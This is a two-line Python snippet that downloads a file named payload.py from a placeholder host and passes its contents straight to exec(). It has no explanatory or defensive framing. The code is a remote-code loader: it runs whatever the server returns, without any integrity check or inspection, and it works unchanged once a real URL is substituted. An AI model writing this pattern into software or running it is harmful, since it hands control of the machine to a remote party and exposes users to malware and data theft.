import urllib.request
exec(urllib.request.urlopen("https://cdn.example.net/payload.py").read())
